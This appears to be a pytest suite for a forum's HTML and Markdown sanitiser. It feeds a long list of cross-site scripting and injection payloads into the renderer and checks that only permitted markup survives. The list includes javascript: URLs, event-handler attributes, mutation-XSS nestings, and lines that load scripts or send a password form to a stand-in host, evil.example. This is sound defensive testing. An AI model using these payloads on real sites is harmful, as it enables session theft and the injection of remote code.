"""Texts that want to be more than text: nothing but the allowed tags, attributes and addresses remains."""

import pytest

from prose import rendering
from prose.markdown import readable
from prose.markup import seal_of
from prose.rendering import render_essay, render_post
from prose.sanitising import harmless_address, settled
from tests.prose.inspecting import inspect

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<listing>&lt;img onerror="alert(1)" src=x&gt;</listing>',
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)>",
    "<base href=//evil.example><link rel=stylesheet href=//evil.example><meta http-equiv=refresh content='0;//evil.example'>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<body onload=alert(1)><html manifest=x><head><title>x</title></head>",
    "<marquee onstart=alert(1)>x</marquee><keygen autofocus onfocus=alert(1)>",
    "<div style='position:fixed;inset:0;background:url(//evil.example)'>x</div>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<p style=\"font:'</p><script>alert(1)</script>'\">",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript&colon;alert(1)'>x</a>",
    "<a href='&#x6A;avascript&#58alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&Tab;script&NewLine;:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a><a href='file:///etc/passwd'>x</a><a href='blob:x'>x</a><a href='view-source:x'>x</a>",
    "<a href='//evil.example'>x</a><a href='\\\\evil.example'>x</a><a href='/\\evil.example'>x</a>",
    "<a href='/&Tab;/evil.example'>x</a><a href=' //evil.example'>x</a><a href='///evil.example'>x</a>",
    "<a href='https:evil.example'>x</a><a href='http:/evil.example'>x</a>",
    "<a href=x target=_blank rel=opener ping=//evil.example download>x</a>",
    "[x](javascript:alert(1)) [x](<javascript:alert(1)>) [x](&#106;avascript:alert(1))",
    "[x](java\nscript:alert(1)) [x](vbscript:x) [x](data:text/html,x) [x](data:image/png;base64,xx)",
    "![x](data:image/svg+xml,x) ![x](data:image/png;base64,xx) ![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](//evil.example) [x](/\\evil.example) ![x](//evil.example/a.png)",
    "<javascript:alert(1)> <data:text/html,x>",
    '[x](https://e.org/"onmouseover="alert(1)) ![a" onerror="alert(1)](/uploads/abcdefghij.png)',
    "![x](https://e.org/x.png \"a' onload='alert(1)\")",
    '[x](/a "t\\" onclick=\\"alert(1)")',
    "[[a\" onclick=\"x|b<script>]] [[<img src=x onerror=alert(1)>]]",
    "@ada\" onclick=x @<script>",
    "```\"><script>alert(1)</script>\nx\n```",
    "|a|\n|-|\n|<script>alert(1)</script>|",
    "[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>",
    "[^a]: <div id=discussion class=\"btn\">\n\n[^a]",
    "# <a id=discussion name=x>x</a> {#main .btn}",
    "<div id=main class='btn post-head'><p id=p12 class=name>x</p></div>",
    "<a id=note-1 class=mention href=/members/ada/>@ada</a><li id=p1-note-1 class=note>x</li>",
    "<a name=getElementById><img name=cookie><a id=body><form id=x><input id=attributes>",
    "<p hidden>x</p><p aria-hidden=true>x</p><p role=alert>x</p><p tabindex=1 accesskey=x contenteditable>x</p>",
    "<p data-action=delete hx-get=/logout _=x x-data=1 is=x slot=x part=x itemprop=x>x</p>",
    "<font color=white size=0>x</font><center>x</center><blink>x</blink>",
    "<table background=javascript:alert(1)><td background=javascript:x bgcolor=red colspan=99999>x</table>",
    "<table><tr><td><table><a href=//evil.example><td></a>x</table>",
    "<a href=/a><table><tr><td><a href=/b>x</table>y</a>",
    "<b><i><p></b></i><div></p></div><a><div><a>x",
    "<!--<img src=x onerror=alert(1)>--><!-->x<img src=y onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]><?php echo 1 ?><!DOCTYPE html>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "</p></div></article></main></body><h1>The site is closed</h1>",
    "<p title='a>b\"c'>x</p><p title=\"</p><script>alert(1)</script>\">x</p>",
    "<a href=\"x\" title=\"<a href='https://e.org'>\">x</a> <a title='\" rel=\"x' href='https://e.org'>y</a>",
    "<div title=\"\n\n@ada [x](/y) *z*",
    "<a\nhref\n=\n'javascript:alert(1)'\n>x</a>",
    "<q cite='javascript:x'>x</q><blockquote cite='javascript:x'>x</blockquote><time datetime='\"><script>'>x</time>",
    "{{7*7}} {% debug %} ${7*7} <%= 7*7 %> #{7*7}",
    "\u202e\u2066x\u2069 \x00<\x00script>alert(1)</script>",
    "<ol start='1e9' type='javascript:x'><li value=x>x</ol><bdo dir='evil'>x</bdo>",
]  # fmt: skip


@pytest.mark.parametrize("render", [render_post, render_essay])
def test_only_what_is_allowed_remains(render):
    for source in (
        *VECTORS,
        "\n\n".join(VECTORS),
        "".join(VECTORS),
        *(f"> - {vector}" for vector in VECTORS),
    ):
        html = render(source, prefix="p1").html
        inspector = inspect(html)
        assert settled(html) == html, source
        assert len(set(inspector.identifiers)) == len(inspector.identifiers)


def test_the_sites_own_classes_and_ids_cannot_be_faked():
    source = (
        '<a class="mention" id="section-x" href="/members/ada/">@ada</a> <li class="note" id="note-1">x</li>'
    )
    html = render_post(source).html
    assert "class=" not in html
    assert "id=" not in html


def test_a_seal_of_another_text_opens_nothing():
    known = seal_of("x")
    html = render_post(f'<a class="{known}mention" href="/x">x</a>').html
    assert html == '<p><a href="/x">x</a></p>'
    assert seal_of("x") not in render_post("[^1] # x\n\n[^1]: y").html


def test_the_seal_never_reaches_the_page():
    for source in VECTORS:
        text = source.replace("\0", "\ufffd")
        assert seal_of(text) not in render_post(source).html


def test_posts_have_no_heading_of_the_page():
    html = render_post("# a\n\nb\n=\n\n## c\n\n<h1>d</h1>\n\n<h2>e</h2>\n\n<H1 title=x>f</H1>").html
    assert "<h1" not in html
    assert "<h2" not in html
    assert "<h1" not in render_essay("# a\n\n<h1>d</h1>").html


@pytest.mark.parametrize(
    ("address", "harmless"),
    [
        ("/forum/", "/forum/"),
        ("#p1", "#p1"),
        ("https://e.org", "https://e.org"),
        ("mailto:a@b.org", "mailto:a@b.org"),
        ("//e.org/x", "https://e.org/x"),
        ("\\\\e.org", "https://e.org"),
        ("/\t/e.org", "https://e.org"),
        (" \x01//e.org", "https://e.org"),
        ("https:e.org", None),
        ("java\nscript:x", None),
        ("ftp://e.org", None),
    ],
)
def test_addresses(address, harmless):
    assert harmless_address(address) == harmless


def test_hidden_text_is_shown_or_gone_but_never_in_plain_alone():
    for source in VECTORS:
        post = render_post(source)
        shown = "".join("".join(inspect(post.html).words).split())
        for word in post.plain.split():
            assert word in shown


def test_vectors_are_rendered_not_merely_escaped():
    """Else the tests above would look at nothing."""
    for source in VECTORS:
        rendering._markdown(readable(source), rendering._Asked(rendering._POST, prefix="p1", quoting=True))
